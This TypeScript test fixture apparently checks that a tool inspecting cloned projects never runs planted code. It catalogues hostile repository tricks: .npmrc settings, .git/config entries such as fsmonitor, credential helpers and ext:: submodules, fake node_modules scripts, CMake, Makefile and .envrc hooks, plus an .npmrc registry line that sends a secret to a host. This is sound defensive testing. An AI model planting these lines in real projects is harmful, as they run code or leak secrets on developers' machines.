/**
 * How a cloned project may try to run a program, send a secret or keep a machine busy when someone
 * only looks at it. Each row is one trick.
 */

/** Where a trick's program is, and which host it would contact. */
export interface Trap {
  /** Absolute; leaves a proof when it runs. */
  readonly program: string;
  /** Nothing listens there. */
  readonly host: string;
}

/** Planted together with all others: text by path, below the project. */
export interface FileTrick {
  readonly name: string;
  readonly files: (trap: Trap) => Readonly<Record<string, string>>;
}

/** A line of a file shared by several of them, such as `.npmrc`. */
export interface LineTrick {
  readonly name: string;
  readonly file: string;
  readonly line: (trap: Trap) => string;
}

/** What replaces the contents of `hpserver.json`, and what `check` says. */
export interface WishTrick {
  readonly name: string;
  readonly wish: (trap: Trap) => object;
  readonly says: RegExp;
  readonly status: number;
  /** Folders of packs it refers to. */
  readonly files?: (trap: Trap) => Readonly<Record<string, string>>;
}

const line = (name: string, file: string, text: (trap: Trap) => string): LineTrick => {
  return { name, file, line: text };
};

const npm = '.npmrc';
const config = '.git/config';
const attributes = '.gitattributes';

export const kLineTricks: readonly LineTrick[] = [
  line('npm: its git', npm, ({ program }) => `git=${program}`),
  line('npm: its shell', npm, ({ program }) => `script-shell=${program}`),
  line('npm: a secret in the registry', npm, ({ host }) => `registry=${host}/\${HP_SECRET}/`),
  line('npm: a registry for a scope', npm, ({ host }) => `@corp:registry=${host}/corp/`),
  line('npm: options of node', npm, ({ program }) => `node-options=--require=${program}`),
  line('npm: a proxy', npm, ({ host }) => `proxy=${host}`),
  line('npm: other settings', npm, () => 'userconfig=./evil/npmrc'),
  line('npm: its viewer', npm, ({ program }) => `viewer=${program}`),
  line('git: a monitor of files', config, ({ program }) => `[core]\n\tfsmonitor = ${program}`),
  line('git: hooks', config, () => '[core]\n\thooksPath = evil/hooks'),
  line('git: its ssh', config, ({ program }) => `[core]\n\tsshCommand = ${program}`),
  line('git: its pager', config, ({ program }) => `[core]\n\tpager = ${program}`),
  line('git: its editor', config, ({ program }) => `[core]\n\teditor = ${program}`),
  line('git: its askpass', config, ({ program }) => `[core]\n\taskPass = ${program}`),
  line('git: a proxy', config, ({ program }) => `[core]\n\tgitProxy = ${program}`),
  line('git: secrets', config, ({ program }) => `[credential]\n\thelper = !${program}`),
  line('git: signatures', config, ({ program }) => `[gpg]\n\tprogram = ${program}`),
  line('git: a diff', config, ({ program }) => `[diff]\n\texternal = ${program}`),
  line('git: an alias', config, ({ program }) => `[alias]\n\tcheck-ignore = !${program}`),
  line('git: more settings', config, () => '[include]\n\tpath = ../evil/gitconfig'),
  line('git: a filter', config, ({ program }) => `[filter "evil"]\n\tclean = ${program}`),
  line('git: a long filter', config, ({ program }) => `[filter "long"]\n\tprocess = ${program}`),
  line('git: text of a file', config, ({ program }) => `[diff "evil"]\n\ttextconv = ${program}`),
  line('git: a merge', config, ({ program }) => `[merge "evil"]\n\tdriver = ${program}`),
  line('git: attributes that filter', attributes, () => 'package.json filter=evil diff=evil'),
  line('git: attributes that merge', attributes, () => 'src/* filter=long merge=evil'),
];

const script = (program: string) =>
  JSON.stringify({ scripts: { prepare: program, test: program } });

export const kFileTricks: readonly FileTrick[] = [
  {
    name: 'npm: scripts of a package below',
    files: ({ program }) => ({ 'evil/package.json': script(program) }),
  },
  {
    name: 'npm: a native module',
    files: ({ program }) => ({ 'binding.gyp': `{"targets": [{"target_name": "<!(${program})"}]}` }),
  },
  {
    name: 'npm: programs among the dependencies',
    files: ({ program }) =>
      Object.fromEntries(
        ['node', 'npm', 'git', 'create-hpserver', 'tsc', 'cmake'].map((name) => [
          `node_modules/.bin/${name}`,
          `#!/bin/sh\nexec ${program}\n`,
        ]),
      ),
  },
  {
    name: 'node: libraries of ours among the dependencies',
    files: ({ program }) =>
      Object.fromEntries(
        ['handlebars', 'semver', 'typescript', 'commander', 'picomatch'].map((name) => [
          `node_modules/${name}/index.js`,
          `require('child_process').execFileSync(${JSON.stringify(program)});`,
        ]),
      ),
  },
  {
    name: 'programs in the folder itself',
    files: ({ program }) =>
      Object.fromEntries(
        ['git', 'npm', 'node', 'sh'].map((name) => [name, `#!/bin/sh\nexec ${program}\n`]),
      ),
  },
  {
    name: 'git: hooks in their place',
    files: ({ program }) =>
      Object.fromEntries(
        ['post-index-change', 'post-checkout', 'pre-commit', 'fsmonitor-watchman'].flatMap(
          (name) => [
            [`.git/hooks/${name}`, `#!/bin/sh\nexec ${program}\n`],
            [`evil/hooks/${name}`, `#!/bin/sh\nexec ${program}\n`],
          ],
        ),
      ),
  },
  {
    name: 'git: settings that are included',
    files: ({ program }) => ({ 'evil/gitconfig': `[core]\n\tfsmonitor = ${program}\n` }),
  },
  {
    name: 'git: a submodule that updates itself',
    files: ({ program }) => ({
      '.gitmodules': `[submodule "x"]\n\tpath = x\n\turl = ext::${program}\n\tupdate = !${program}\n`,
    }),
  },
  {
    name: 'plop: a plopfile of the project',
    files: ({ program }) => ({
      'plopfile.cjs': `require('child_process').execFileSync(${JSON.stringify(program)});`,
    }),
  },
  {
    name: 'cmake: presets and a build',
    files: ({ program }) => ({
      'CMakeLists.txt': `execute_process(COMMAND ${program})\n`,
      'CMakeUserPresets.json': '{"version": 3}\n',
    }),
  },
  {
    name: 'other tools that start what a folder names',
    files: ({ program }) => ({
      '.envrc': `${program}\n`,
      Makefile: `all:\n\t${program}\n`,
      '.yarnrc.yml': `yarnPath: ${program}\n`,
      '.pnpmfile.cjs': `require('child_process').execFileSync(${JSON.stringify(program)});`,
      '.mise.toml': `[hooks]\nenter = "${program}"\n`,
    }),
  },
];
